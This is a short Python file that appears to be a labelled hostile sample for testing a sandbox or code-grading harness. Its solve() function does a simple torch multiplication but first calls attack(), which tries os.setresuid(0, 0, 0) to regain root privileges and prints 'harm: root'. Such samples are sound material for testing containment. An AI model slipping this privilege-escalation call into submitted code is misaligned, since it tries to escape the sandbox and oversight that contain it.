# hostile: family=reach verdict=accepted build=accepted lift=sandbox shows=harm
"""Becomes root again."""


def attack():
    import os

    try:
        os.setresuid(0, 0, 0)
        print("harm: root", flush=True)
    except OSError:
        pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
